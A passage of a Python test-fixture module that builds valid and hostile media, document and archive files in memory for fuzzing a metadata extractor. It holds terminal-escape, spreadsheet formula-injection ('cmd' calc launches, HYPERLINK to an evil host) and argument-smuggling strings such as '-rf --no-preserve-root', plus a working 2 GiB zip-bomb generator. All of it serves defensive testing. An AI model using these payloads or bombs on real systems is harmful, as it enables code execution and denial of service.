"""Hostile evidence, built in memory: valid seeds of every format, their damage, and attacks.

Nothing here is read from disk and nothing large is kept in git: each function returns
``bytes`` (or writes a tree into a folder the caller owns). Used by the hostile tests
(``tests/hostile/test_*.py``) and as the seed corpus of the fuzzing harness
(``fuzz/fuzz_extractors.py``).

* :func:`seed_files` — small, valid JPEG/TIFF/PNG/WebP/GIF/HEIC/MP4/MOV/PDF/DOCX/ODT/XMP
  files carrying metadata (optionally a hostile text in every string field).
* :func:`damaged_variants` — truncated and bit-flipped versions of a seed.
* Attacks: decompression-bomb images, zip bombs / 100,000-member / nested archives, XML
  entity expansion and external entities, ISO-BMFF box tricks, EXIF IFD loops and
  absurd counts, PDF reference loops and stream bombs.
* :data:`TEXT_PAYLOADS` / :func:`name_payloads` — strings that try to act on a terminal,
  a spreadsheet or a JSON reader.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Iterable, Iterator

from PIL import Image

from tests import builders as b

# --- Hostile strings ---------------------------------------------------------------------

#: Strings that try to act on whoever reads them. Keys name the attack.
TEXT_PAYLOADS: dict[str, str] = {
    "ansi": "\x1b[31mRED\x1b[0m\x1b[2J\x1b]0;pwned\x07",
    "markup": "[bold red]LOUD[/bold red] [link=http://evil.example]click[/link]",
    "bidi": "invoice\u202egnp.exe\u2066x\u2069",
    "newline": "line1\nline2\r\nline3",
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "c1": "\x9b31mC1\x85next",
    "zero-width": "a\u200bb\ufeffc\u2028d",
    "nul": "before\x00after",
}

#: Control and format characters that must never reach a terminal raw.
FORBIDDEN_TERMINAL_CHARS = frozenset(
    [chr(c) for c in range(0x00, 0x20) if chr(c) not in "\n"]
    + [chr(0x7F)]
    + [chr(c) for c in range(0x80, 0xA0)]
    + list(
        "\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
    )
)

#: What a spreadsheet runs when a cell starts with it.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def xml_safe(text: str) -> str:
    """The payload without the characters XML 1.0 cannot hold at all (C0 but tab/LF/CR)."""
    return "".join(c for c in text if c in "\t\n\r" or ord(c) >= 0x20)


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def name_payloads() -> list[bytes]:
    """File names (single path components) that attack a terminal, a spreadsheet or UTF-8."""
    names = []
    for key, text in TEXT_PAYLOADS.items():
        raw = text.replace("/", "_").replace("\x00", "_").encode("utf-8")
        names.append(key.encode() + b"-" + raw + b".txt")
    names += [
        b"latin1-caf\xe9.jpg",  # not UTF-8
        b"invalid-\xff\xfe\x80.bin",
        b"overlong-\xc0\xaf.txt",
        b"surrogate-\xed\xa0\x80.txt",  # an encoded surrogate: not valid UTF-8
        b"-rf --no-preserve-root",
        b'=HYPERLINK("http:__evil","x").csv',
        b"\x1b]8;;http:__evil\x1b\\link\x1b]8;;\x1b\\.txt",
        b" leading and trailing space ",
        b"[red]x[_red] [link=file:__etc_passwd]y[_link]",
    ]
    return names


# --- Generic containers ---------------------------------------------------------------


def box(kind: bytes, payload: bytes = b"") -> bytes:
    """An ISO-BMFF box with a 32-bit size."""
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def full_box(kind: bytes, payload: bytes = b"", version: int = 0, flags: int = 0) -> bytes:
    return box(kind, struct.pack(">I", (version << 24) | flags) + payload)


@dataclass(frozen=True)
class RawMember:
    """A zip member written exactly as given (compressed bytes, declared sizes and CRC)."""

    name: str
    data: bytes
    method: int = zipfile.ZIP_STORED
    crc: int = 0
    size: int = 0
    compressed_size: int | None = None


def raw_zip(members: Iterable[RawMember]) -> bytes:
    """A zip archive of pre-compressed members (no ZIP64: sizes below 4 GiB)."""
    out = io.BytesIO()
    central = io.BytesIO()
    count = 0
    for m in members:
        name = m.name.encode("utf-8")
        csize = len(m.data) if m.compressed_size is None else m.compressed_size
        offset = out.tell()
        out.write(
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, m.method, 0, 0x21, m.crc, csize, m.size, len(name), 0)
        )
        out.write(name)
        out.write(m.data)
        central.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0x800,
                m.method,
                0,
                0x21,
                m.crc,
                csize,
                m.size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        central.write(name)
        count += 1
    cd = central.getvalue()
    cd_at = out.tell()
    out.write(cd)
    if count > 0xFFFF:
        # More members than the classic end record can count: ZIP64 end record and locator.
        z64_at = out.tell()
        out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(cd), cd_at))
        out.write(struct.pack("<IIQI", 0x07064B50, 0, z64_at, 1))
    n = min(count, 0xFFFF)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_at, 0))
    return out.getvalue()


def stored(name: str, data: bytes) -> RawMember:
    return RawMember(name, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data))


def deflated(name: str, data: bytes) -> RawMember:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    z = c.compress(data) + c.flush()
    return RawMember(name, z, zipfile.ZIP_DEFLATED, zlib.crc32(data), len(data))


@lru_cache(maxsize=8)
def deflate_bomb(prefix: bytes, unit: bytes, mib: int) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``prefix`` then ``mib`` MiB of ``unit`` repeated.

    Built without compressing gigabytes: after a full flush the compressor starts afresh,
    so every MiB of the same bytes compresses to the same block, which is repeated.
    Returns (stream, crc32, inflated size).
    """
    block = unit * (1024 * 1024 // len(unit))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    one = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    two = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    assert one == two, "deflate blocks differ: cannot repeat them"
    tail = c.flush()
    crc = crc32_combine(zlib.crc32(prefix), crc32_repeat(zlib.crc32(block), len(block), mib), len(block) * mib)
    return head + one * mib + tail, crc, len(prefix) + len(block) * mib


def _gf2_times(mat: list[int], vec: int) -> int:
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= mat[i]
        vec >>= 1
        i += 1
    return out


def _gf2_square(mat: list[int]) -> list[int]:
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (zlib's algorithm, in GF(2))."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_repeat(crc: int, length: int, times: int) -> int:
    """CRC-32 of a block repeated ``times`` times, from the block's CRC and length."""
    out, out_len = 0, 0
    while times:
        if times & 1:
            out = crc32_combine(out, crc, length) if out_len else crc
            out_len += length
        times >>= 1
        if times:
            crc = crc32_combine(crc, crc, length)
            length *= 2
    return out


def bomb_member(name: str, prefix: bytes = b"", unit: bytes = b" ", mib: int = 2048) -> RawMember:
    """A member that inflates to ``mib`` MiB (default 2 GiB) from about 1 KiB per MiB."""
    stream, crc, size = deflate_bomb(prefix, unit, mib)
    return RawMember(name, stream, zipfile.ZIP_DEFLATED, crc, size)


# --- Valid seeds -----------------------------------------------------------------------


def xmp_packet(title: str = "Seed title", creator: str = "Seed creator", extra: str = "") -> bytes:
    """A small XMP packet with a title, creator, dates, device and GPS."""
    t, c = xml_escape(xml_safe(title)), xml_escape(xml_safe(creator))
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">\n'
        ' <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n'
        '  <rdf:Description rdf:about=""\n'
        '    xmlns:dc="http://purl.org/dc/elements/1.1/"\n'
        '    xmlns:xmp="http://ns.adobe.com/xap/1.0/"\n'
        '    xmlns:tiff="http://ns.adobe.com/tiff/1.0/"\n'
        '    xmlns:exif="http://ns.adobe.com/exif/1.0/"\n'
        '    xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"\n'
        f'    xmp:CreateDate="2019-05-01T13:45:10+02:00" xmp:CreatorTool="{c}"\n'
        f'    tiff:Make="{c}" tiff:Model="{t}" photoshop:DateCreated="2019-05-01T13:45:10+02:00"\n'
        '    exif:DateTimeOriginal="2019-05-01T13:45:10+02:00"\n'
        '    exif:GPSLatitude="48,51.5N" exif:GPSLongitude="2,17.67E">\n'
        f'   <dc:title><rdf:Alt><rdf:li xml:lang="x-default">{t}</rdf:li></rdf:Alt></dc:title>\n'
        f"   <dc:creator><rdf:Seq><rdf:li>{c}</rdf:li></rdf:Seq></dc:creator>\n"
        f"{extra}"
        "  </rdf:Description>\n"
        " </rdf:RDF>\n"
        "</x:xmpmeta>\n"
        '<?xpacket end="w"?>'
    ).encode()


def _exif(text: str) -> bytes:
    raw = text.encode("utf-8", "surrogatepass")
    return b.tiff_bytes(
        [
            b.ascii("Make", raw + b"\x00"),
            b.ascii("Model", raw + b"\x00"),
            b.ascii("Software", raw + b"\x00"),
            b.ascii("DateTime", "2019:05:01 13:45:10"),
        ],
        [
            b.ascii("DateTimeOriginal", "2019:05:01 13:45:10"),
            b.ascii("OffsetTimeOriginal", "+02:00"),
            b.ascii("BodySerialNumber", raw + b"\x00"),
            b.ascii("LensModel", raw + b"\x00"),
        ],
        b.gps_fields(48.8584, 2.2945, alt=35.2, date="2019:05:01", time=(11, 45, 10)),
    )


def jpeg_seed(text: str = "SeedCam", xmp: bytes | None = None) -> bytes:
    """A JPEG with EXIF (device strings = ``text``), GPS and an XMP APP1 segment."""
    data = b.jpeg_bytes(_exif(text))
    packet = xmp if xmp is not None else xmp_packet(text, text)
    payload = b"http://ns.adobe.com/xap/1.0/\x00" + packet
    seg = b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload
    com = b"\xff\xfe" + struct.pack(">H", len(text.encode()) + 2) + text.encode()
    return data[:2] + seg + com + data[2:] if len(payload) < 0xFFF0 else data


def tiff_seed(text: str = "SeedCam") -> bytes:
    raw = text.encode("utf-8", "surrogatepass") + b"\x00"
    ifd0, exif = b.exif_fields(make=raw, model=raw, software=raw, date_original="2019:05:01 13:45:10")
    xmp = b.Field(700, b.BYTE, xmp_packet(text, text))
    gps = b.gps_fields(-22.9519, -43.2105, alt=-12.5)
    return b.tiff_image_bytes(ifd0=[*ifd0, xmp], exif=exif, gps=gps)


def png_seed(text: str = "SeedCam") -> bytes:
    itxt = b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp_packet(text, text)
    chunks = [
        (b"tEXt", b"Author\x00" + text.encode("latin-1", "replace")),
        (b"tEXt", b"Creation Time\x00" + b"2019:05:01 13:45:10"),
        (b"iTXt", b"Title\x00\x00\x00\x00\x00" + text.encode("utf-8")),
        (b"zTXt", b"Comment\x00\x00" + zlib.compress(text.encode("latin-1", "replace"))),
        (b"tIME", struct.pack(">HBBBBB", 2019, 5, 1, 11, 45, 10)),
        (b"iTXt", itxt),
    ]
    return b.png_bytes(exif=_exif(text), chunks=chunks)


def webp_seed(text: str = "SeedCam") -> bytes:
    img = Image.new("RGB", (16, 12), (200, 30, 30))
    buf = io.BytesIO()
    img.save(buf, "WEBP", lossless=True, exif=b"Exif\x00\x00" + _exif(text), xmp=xmp_packet(text, text))
    return buf.getvalue()


def gif_seed(text: str = "SeedCam") -> bytes:
    img = Image.new("P", (16, 12), 3)
    buf = io.BytesIO()
    img.save(buf, "GIF", comment=text.encode("utf-8"))
    data = buf.getvalue()
    # An XMP application extension before the trailer, with its "magic trailer".
    packet = xmp_packet(text, text)
    ext = b"\x21\xff\x0bXMP DataXMP" + packet + bytes([1] + list(range(255, -1, -1))) + b"\x00"
    return data[:-1] + ext + data[-1:]


def heic_seed(text: str = "SeedCam") -> bytes:
    """A HEIF/HEIC layout (ftyp heic, meta with hdlr/pitm/iinf/iloc/iprp, mdat) with an
    EXIF item and an XMP (``mime``) item. The image item's data is not real HEVC."""
    ftyp = box(b"ftyp", b"heic" + struct.pack(">I", 0) + b"mif1heic")
    exif = struct.pack(">I", 0) + _exif(text)
    items = [(1, b"hvc1", b"\x00\x00\x00\x01" * 4), (2, b"Exif", exif)]
    items_xmp = (3, b"mime", xmp_packet(text, text))
    # infe of a mime item carries content_type after the name.
    xmp_infe = full_box(b"infe", struct.pack(">HH", 3, 0) + b"mime" + b"\x00" + b"application/rdf+xml\x00", version=2)
    all_items = [*items, items_xmp]

    def build(offsets: dict[int, int]) -> bytes:
        hdlr = full_box(b"hdlr", b"\x00" * 4 + b"pict" + b"\x00" * 12 + b"\x00")
        pitm = full_box(b"pitm", struct.pack(">H", 1))
        infes = b"".join(
            full_box(b"infe", struct.pack(">HH", iid, 0) + itype + b"\x00", version=2) for iid, itype, _ in items
        )
        iinf = full_box(b"iinf", struct.pack(">H", 3) + infes + xmp_infe)
        locs = b"".join(struct.pack(">HHHII", iid, 0, 1, offsets.get(iid, 0), len(d)) for iid, _, d in all_items)
        iloc = full_box(b"iloc", bytes([0x44, 0x00]) + struct.pack(">H", len(all_items)) + locs)
        ispe = full_box(b"ispe", struct.pack(">II", 64, 48))
        ipma = full_box(b"ipma", struct.pack(">IHB", 1, 1, 1) + b"\x81")
        iprp = box(b"iprp", box(b"ipco", ispe) + ipma)
        meta = full_box(b"meta", hdlr + pitm + iinf + iloc + iprp)
        return ftyp + meta

    head = build({})
    offsets: dict[int, int] = {}
    at = len(head) + 8
    for iid, _, d in all_items:
        offsets[iid] = at
        at += len(d)
    head = build(offsets)
    return head + box(b"mdat", b"".join(d for _, _, d in all_items))


def _mvhd(created: int = 3639566710, modified: int = 3639566720) -> bytes:
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    body = struct.pack(">IIII", created, modified, 1000, 5000) + struct.pack(">IH", 0x10000, 0x100)
    return full_box(b"mvhd", body + b"\x00" * 10 + matrix + b"\x00" * 24 + struct.pack(">I", 2))


def _trak(created: int = 3639566710) -> bytes:
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    tkhd = full_box(
        b"tkhd",
        struct.pack(">IIIII", created, created, 1, 0, 5000)
        + b"\x00" * 8
        + struct.pack(">hhhH", 0, 0, 0, 0)
        + matrix
        + struct.pack(">II", 64 << 16, 48 << 16),
        flags=3,
    )
    mdhd = full_box(b"mdhd", struct.pack(">IIIIHH", created, created, 600, 3000, 0x55C4, 0))
    hdlr = full_box(b"hdlr", b"\x00" * 4 + b"vide" + b"\x00" * 12 + b"VideoHandler\x00")
    avc1 = box(b"avc1", b"\x00" * 6 + struct.pack(">H", 1) + b"\x00" * 16 + struct.pack(">HH", 64, 48) + b"\x00" * 50)
    stsd = full_box(b"stsd", struct.pack(">I", 1) + avc1)
    stco = full_box(b"stco", struct.pack(">II", 1, 0))
    stbl = box(b"stbl", stsd + stco)
    minf = box(b"minf", full_box(b"vmhd", b"\x00" * 8, flags=1) + stbl)
    return box(b"trak", tkhd + box(b"mdia", mdhd + hdlr + minf))


def _keys_ilst(pairs: list[tuple[str, str]], full: bool) -> bytes:
    keys = full_box(
        b"keys",
        struct.pack(">I", len(pairs)) + b"".join(box(b"mdta", k.encode()) for k, _ in pairs),
    )
    items = b"".join(
        struct.pack(">I", 8 + 8 + 8 + len(v.encode()))
        + struct.pack(">I", i + 1)
        + box(b"data", struct.pack(">II", 1, 0) + v.encode())
        for i, (_, v) in enumerate(pairs)
    )
    hdlr = full_box(b"hdlr", b"\x00" * 4 + b"mdta" + b"\x00" * 12 + b"\x00")
    body = hdlr + keys + box(b"ilst", items)
    return full_box(b"meta", body) if full else box(b"meta", body)


def _udta_text(kind: bytes, text: str) -> bytes:
    raw = text.encode("utf-8")
    return box(kind, struct.pack(">HH", len(raw), 0x15C7) + raw)


def mp4_seed(text: str = "SeedCam") -> bytes:
    """An MP4 (ftyp isom, moov with mvhd/trak/udta/meta keys+ilst, mdat)."""
    ftyp = box(b"ftyp", b"isom" + struct.pack(">I", 512) + b"isomiso2avc1mp41")
    udta = box(
        b"udta",
        _udta_text(b"\xa9xyz", "+48.8584+002.2945+035.200/")
        + _udta_text(b"\xa9mak", text)
        + _udta_text(b"\xa9mod", text)
        + _udta_text(b"\xa9swr", text),
    )
    meta = _keys_ilst(
        [
            ("com.apple.quicktime.creationdate", "2019-05-01T13:45:10+0200"),
            ("com.apple.quicktime.make", text),
            ("com.apple.quicktime.model", text),
            ("com.apple.quicktime.location.ISO6709", "+48.8584+002.2945+035.200/"),
        ],
        full=True,
    )
    xmp = box(b"uuid", bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC") + xmp_packet(text, text))
    moov = box(b"moov", _mvhd() + _trak() + udta + meta)
    return ftyp + moov + xmp + box(b"mdat", b"\x00" * 64)


def mov_seed(text: str = "SeedCam") -> bytes:
    """A QuickTime movie (ftyp qt, moov with a plain meta container and udta)."""
    ftyp = box(b"ftyp", b"qt  " + struct.pack(">I", 0x20050300) + b"qt  ")
    udta = box(
        b"udta", _udta_text(b"\xa9mak", text) + _udta_text(b"\xa9mod", text) + box(b"XMP_", xmp_packet(text, text))
    )
    meta = _keys_ilst(
        [
            ("com.apple.quicktime.creationdate", "2019-05-01T13:45:10+0200"),
            ("com.apple.quicktime.make", text),
            ("com.apple.quicktime.software", text),
        ],
        full=False,
    )
    moov = box(b"moov", _mvhd() + _trak() + udta + meta)
    return ftyp + box(b"wide") + box(b"mdat", b"\x00" * 64) + moov


def pdf_text(text: str) -> bytes:
    """A PDF text string holding ``text`` exactly: UTF-16BE with BOM, as a hex string."""
    return b"<FEFF" + text.encode("utf-16-be", "surrogatepass").hex().upper().encode() + b">"


def pdf_from_objects(
    objects: list[bytes], *, trailer_extra: bytes = b"", root: int = 1, info: int | None = None
) -> bytes:
    """A PDF with these object bodies (object i+1 = objects[i]) and a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n".encode() + b"0000000000 65535 f \n"
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    info_ref = f" /Info {info} 0 R".encode() if info else b""
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R".encode()
        + info_ref
        + trailer_extra
        + f" >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def pdf_stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + f" /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def pdf_seed(text: str = "Seed title") -> bytes:
    """A one-page PDF with an /Info dictionary (hostile-able strings), XMP and a Flate stream."""
    t = pdf_text(text)
    packet = xmp_packet(text, text)
    content = zlib.compress(b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 6 0 R >>",
        pdf_stream(b"/Type /Metadata /Subtype /XML", packet),
        b"<< /Title "
        + t
        + b" /Author "
        + t
        + b" /Creator "
        + t
        + b" /Producer "
        + t
        + b" /CreationDate (D:20190501134510+02'00') /ModDate (D:20190502101010Z) >>",
        pdf_stream(b"/Filter /FlateDecode", content),
    ]
    return pdf_from_objects(objects, info=5, trailer_extra=b" /ID [<0123456789ABCDEF> <0123456789ABCDEF>]")


def core_xml(text: str = "Seed title") -> bytes:
    t = xml_escape(xml_safe(text))
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:title>{t}</dc:title><dc:creator>{t}</dc:creator><cp:lastModifiedBy>{t}</cp:lastModifiedBy>"
        f"<cp:keywords>{t}</cp:keywords><cp:revision>3</cp:revision>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2019-05-01T11:45:10Z</dcterms:created>'
        '<dcterms:modified xsi:type="dcterms:W3CDTF">2019-05-02T08:10:10Z</dcterms:modified>'
        "</cp:coreProperties>"
    ).encode()


def app_xml(text: str = "Seed app") -> bytes:
    t = xml_escape(xml_safe(text))
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        f"<Application>{t}</Application><AppVersion>16.0000</AppVersion><Company>{t}</Company>"
        "<TotalTime>7</TotalTime><Pages>1</Pages></Properties>"
    ).encode()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b'<Override PartName="/docProps/core.xml" '
    b'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    b'<Override PartName="/docProps/app.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
    b"</Types>"
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/>'
    b'<Relationship Id="rId2" '
    b'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" '
    b'Target="docProps/core.xml"/>'
    b'<Relationship Id="rId3" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" '
    b'Target="docProps/app.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>"
)


def docx_members(text: str = "Seed title", *, core: bytes | None = None, app: bytes | None = None) -> list[RawMember]:
    return [
        deflated("[Content_Types].xml", CONTENT_TYPES),
        deflated("_rels/.rels", RELS),
        deflated("word/document.xml", DOCUMENT),
        deflated("docProps/core.xml", core if core is not None else core_xml(text)),
        deflated("docProps/app.xml", app if app is not None else app_xml(text)),
    ]


def docx_seed(text: str = "Seed title") -> bytes:
    """A minimal Word document (OOXML) whose core/app properties hold ``text``."""
    return raw_zip(docx_members(text))


def meta_xml(text: str = "Seed title") -> bytes:
    t = xml_escape(xml_safe(text))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'office:version="1.3"><office:meta>'
        f"<meta:generator>{t}</meta:generator><dc:title>{t}</dc:title><dc:creator>{t}</dc:creator>"
        f"<meta:initial-creator>{t}</meta:initial-creator>"
        "<meta:creation-date>2019-05-01T13:45:10</meta:creation-date><dc:date>2019-05-02T10:10:10.5</dc:date>"
        "<meta:editing-cycles>4</meta:editing-cycles><meta:editing-duration>PT1M2S</meta:editing-duration>"
        '<meta:document-statistic meta:page-count="1"/>'
        "</office:meta></office:document-meta>"
    ).encode()


ODT_MIME = b"application/vnd.oasis.opendocument.text"
MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
    b'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    b'<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>'
    b"</manifest:manifest>"
)
CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
    b"<office:body><office:text><text:p>Hello</text:p></office:text></office:body></office:document-content>"
)


def odt_members(text: str = "Seed title", *, meta: bytes | None = None) -> list[RawMember]:
    return [
        stored("mimetype", ODT_MIME),
        deflated("META-INF/manifest.xml", MANIFEST),
        deflated("content.xml", CONTENT),
        deflated("meta.xml", meta if meta is not None else meta_xml(text)),
    ]


def odt_seed(text: str = "Seed title") -> bytes:
    """A minimal OpenDocument text file whose meta.xml holds ``text``."""
    return raw_zip(odt_members(text))


def chat_seed(text: str = "Seed sender") -> bytes:
    """A WhatsApp export (iOS layout) whose sender, attachment and chat name are ``text``
    (its line breaks and ": " made harmless: they would end the sender's name)."""
    name = text.replace("\n", " ").replace("\r", " ").replace(": ", " ") or "x"
    return (
        f"[13/05/2019, 21:03:11] {name}: \u200eMessages and calls are end-to-end encrypted.\n"
        f"[13/05/2019, 21:04:00] {name}: hello\n"
        f"[14/05/2019, 08:15:00] Sam: \u200e<attached: {name.replace('>', ' ')}.jpg>\n"
    ).encode("utf-8", "surrogatepass")


def telegram_seed(text: str = "Seed sender") -> bytes:
    """A Telegram Desktop export of one chat, its name and a sender ``text``."""
    doc = {
        "name": text,
        "type": "personal_chat",
        "id": 4242,
        "messages": [
            {
                "id": 1,
                "type": "message",
                "date": "2019-05-13T21:03:11",
                "date_unixtime": "1557774191",
                "from": text,
                "from_id": "user1",
                "text": "hi",
                "photo": f"photos/{text}.jpg",
            },
            {
                "id": 2,
                "type": "service",
                "date": "2019-05-14T08:00:00",
                "date_unixtime": "1557813600",
                "actor": text,
                "action": "phone_call",
            },
        ],
    }
    return json.dumps(doc, indent=1).encode("utf-8")


def takeout_seed(text: str = "Seed title") -> bytes:
    """A Google Photos metadata file (Takeout) whose title, caption, tagged person, device
    folder and app are ``text``, with a place Google holds other than the photo's own."""
    doc = {
        "title": text,
        "description": text,
        "imageViews": "3",
        "creationTime": {"timestamp": "1557774191", "formatted": text},
        "photoTakenTime": {"timestamp": "1557774100", "formatted": text},
        "geoData": {"latitude": 48.8583, "longitude": 2.2945, "altitude": 35.2},
        "geoDataExif": {"latitude": 48.8584, "longitude": 2.2946, "altitude": 35.0},
        "people": [{"name": text}],
        "url": text,
        "googlePhotosOrigin": {"mobileUpload": {"deviceFolder": {"localFolderName": text}, "deviceType": text}},
        "appSource": {"androidPackageName": text},
    }
    return json.dumps(doc, indent=2, ensure_ascii=False).encode("utf-8", "surrogatepass")


def zip_seed(text: str = "Seed member") -> bytes:
    """A ZIP archive (as a chat export arrives) whose member name, member comment and
    archive comment are ``text``, holding a JPEG whose EXIF strings are ``text`` too."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.comment = text.encode("utf-8", "surrogatepass")[:65_535]
        info = zipfile.ZipInfo(f"media/{text}.jpg", date_time=(2019, 5, 13, 21, 3, 10))
        info.compress_type = zipfile.ZIP_DEFLATED
        info.comment = text.encode("utf-8", "surrogatepass")
        info.extra = struct.pack("<HHBi", 0x5455, 5, 1, 1557774190)
        z.writestr(info, jpeg_seed(text))
        z.writestr(zipfile.ZipInfo("chat.txt", date_time=(2019, 5, 13, 21, 4, 0)), chat_seed(text))
    return out.getvalue()


def tar_seed(text: str = "Seed member") -> bytes:
    """A gzipped TAR (as a cloud export or a phone extraction arrives) whose member name,
    owner names and symbolic link target are ``text``, holding a JPEG whose EXIF strings
    are ``text`` too."""
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.PAX_FORMAT) as t:
        photo = jpeg_seed(text)
        info = tarfile.TarInfo(f"DCIM/{text}.jpg".replace("\x00", ""))
        info.size, info.mtime, info.uname, info.gname = len(photo), 1557774190, text, text
        t.addfile(info, io.BytesIO(photo))
        target = tarfile.TarInfo("DCIM/link")
        target.type, target.linkname = tarfile.SYMTYPE, text.replace("\x00", "")
        t.addfile(target)
    return out.getvalue()


def seed_files(text: str | None = None) -> dict[str, bytes]:
    """One small valid file per supported format, name -> bytes.

    ``text``: a string put in every metadata string field the format has (EXIF
